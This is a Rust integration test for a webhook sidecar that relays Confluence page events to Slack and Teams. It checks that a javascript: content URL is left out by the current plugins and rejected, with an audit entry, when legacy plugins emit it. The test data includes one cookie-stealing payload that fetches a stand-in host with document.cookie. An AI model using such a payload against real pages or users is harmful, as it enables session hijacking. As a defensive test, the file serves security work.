//! A content URL that is not http(s) never becomes a button: a webhook
//! whose page Confluence no longer has carries `self: "javascript:…"`, so
//! the plugins see that as the content URL. The bundled slack-poster and
//! teams-poster (built with the SDK, which leaves such links out) deliver
//! their messages without it; the same plugins as committed for contract
//! 0.1.0 (built before the SDK did) emit it in a Slack button and a Teams
//! `Action.OpenUrl`, and the host's judge rejects those actions, audited
//! with the reason, so nothing reaches Slack or Teams from them.

use crate::common;

use std::path::Path;
use std::time::Duration;

use common::confluence::{self, ADA};
use common::sidecar::{HOOK_SECRET, Sidecar};
use pagehook_fakes::{FakeSlack, FakeTeams};
use serde_json::Value;

const BOT: &str = "xoxb-unsafe-links";
const HOSTILE: &str = "javascript:fetch('https://evil.example/?c='+document.cookie)//";
const WAIT: Duration = Duration::from_secs(20);

/// A committed 0.1.0 component installed under another name, beside the
/// bundled plugin of the same name.
fn legacy(name: &str, as_name: &str, into: &Path) -> String {
    let from = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/contract-0.1.0")
        .join(name);
    let dir = into.join(as_name);
    std::fs::create_dir_all(&dir).unwrap();
    for entry in std::fs::read_dir(&from).unwrap() {
        let path = entry.unwrap().path();
        std::fs::copy(&path, dir.join(path.file_name().unwrap())).unwrap();
    }
    let manifest = dir.join("plugin.toml");
    let text = std::fs::read_to_string(&manifest).unwrap();
    std::fs::write(
        &manifest,
        text.replacen(
            &format!("name = \"{name}\""),
            &format!("name = \"{as_name}\""),
            1,
        ),
    )
    .unwrap();
    dir.display().to_string()
}

#[test]
fn a_javascript_content_url_never_reaches_a_slack_button_or_teams_action() {
    let conf = confluence::with_ada([]);
    let slack = FakeSlack::start(BOT);
    slack.add_channel("eng", "C0ENG00001", true);
    let teams = FakeTeams::start();
    let workflow = teams.add_workflow("eng-news");
    let mut side = Sidecar::new();
    side.connect_confluence("prod", &conf.base_url());
    side.connect_slack("acme", &slack.base_url(), BOT);
    side.cli(&["connect", "teams", "eng-news", "--url", &workflow]);
    // Confluence does not have the page any more: nothing tells whether it
    // is restricted, so the bindings post restricted content too.
    let open = ["--scope", "space:ENG", "--set", "skip-restricted=false"];
    side.install("slack-poster", &["post-slack"]);
    side.install("teams-poster", &["post-teams"]);
    let plugins = tempfile::tempdir().unwrap();
    for (name, as_name, grant) in [
        ("slack-poster", "legacy-slack-poster", "post-slack"),
        ("teams-poster", "legacy-teams-poster", "post-teams"),
    ] {
        let dir = legacy(name, as_name, plugins.path());
        side.cli(&["plugin", "install", &dir, "--grant", grant]);
    }
    for (plugin, to, channel) in [
        ("slack-poster", "slack:#eng", "channel=#eng"),
        ("legacy-slack-poster", "slack:#eng", "channel=#eng"),
        ("teams-poster", "teams:eng-news", "channel=eng-news"),
        ("legacy-teams-poster", "teams:eng-news", "channel=eng-news"),
    ] {
        let mut args = vec!["bind", plugin, "--quiet", "--to", to, "--set", channel];
        args.extend_from_slice(&open);
        side.cli(&args);
    }
    side.start();

    let body = serde_json::json!({
        "timestamp": 1, "event": "page_created", "userKey": ADA,
        "page": {"id": 4242, "title": "Q3 plan", "spaceKey": "ENG", "version": 1, "self": HOSTILE},
    })
    .to_string();
    let (status, stored) = side.hook("prod", body.as_bytes(), Some(HOOK_SECRET));
    assert_eq!(status, 202, "{stored}");
    side.wait_json(&["events"], "dispatch", |v| v[0]["status"] == "dispatched");
    let posts = slack.wait_for_posts(1, WAIT);
    let cards = teams.wait_for_posts(1, WAIT);
    side.wait_json(&["deliveries"], "both sent", |v| {
        let all = v.as_array().unwrap();
        all.len() == 2 && all.iter().all(|d| d["status"] == "sent")
    });
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(
        slack.posts().len(),
        1,
        "only the bundled slack-poster's message"
    );
    assert_eq!(
        teams.posts().len(),
        1,
        "only the bundled teams-poster's card"
    );

    // What reached Slack and Teams: the message, without the URL anywhere.
    let post = &posts[0];
    let sent =
        format!("{} {}", post.text.as_deref().unwrap_or(""), post.params).to_ascii_lowercase();
    assert!(sent.contains("q3 plan"), "{sent}");
    assert!(!sent.contains("javascript"), "{sent}");
    assert!(!sent.contains("evil.example"), "{sent}");
    let card = cards[0].payload.to_string().to_ascii_lowercase();
    assert!(card.contains("q3 plan"), "{card}");
    assert!(!card.contains("javascript"), "{card}");
    assert!(cards[0].card.get("actions").is_none(), "{}", cards[0].card);

    // The plugins built before the SDK refused such links: rejected, audited.
    let (_, detail) = side.api(&format!("/api/events/{}", stored["id"]));
    let audit = detail["audit"].as_array().unwrap();
    for (plugin, element) in [
        (
            "legacy-slack-poster",
            "a Slack button would open `javascript:",
        ),
        (
            "legacy-teams-poster",
            "a Teams card action (Action.OpenUrl) would open `javascript:",
        ),
    ] {
        let line = audit
            .iter()
            .find(|a| a["plugin"] == plugin)
            .unwrap_or_else(|| panic!("no audit line of {plugin}: {detail:#}"));
        assert_eq!(line["verdict"], "rejected", "{line}");
        let reason = line["reason"].as_str().unwrap_or_default();
        assert!(reason.contains(element), "{reason}");
        assert!(reason.contains("only http and https URLs"), "{reason}");
    }
    for plugin in ["slack-poster", "teams-poster"] {
        assert!(
            audit
                .iter()
                .any(|a| a["plugin"] == plugin && a["verdict"] == "accepted"),
            "{detail:#}"
        );
    }
    let deliveries: Vec<&Value> = detail["deliveries"].as_array().unwrap().iter().collect();
    assert!(
        deliveries.iter().all(|d| !d["plugin"]
            .as_str()
            .unwrap_or_default()
            .starts_with("legacy-")),
        "{deliveries:#?}"
    );
}
